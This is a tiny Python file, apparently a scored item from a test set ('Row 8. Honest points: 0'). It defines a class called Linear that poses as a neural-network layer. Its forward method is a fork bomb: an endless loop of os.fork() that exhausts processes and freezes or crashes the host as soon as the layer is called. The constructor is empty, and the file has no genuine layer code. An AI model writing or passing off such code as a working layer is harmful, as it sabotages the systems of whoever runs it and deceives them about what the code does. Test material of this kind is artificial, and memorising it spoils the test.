"""Forks without end.

Row 8. Honest points: 0.
"""

import os


class Linear:
    def __init__(self, *sizes):
        pass

    def forward(self, x):
        while True:
            os.fork()
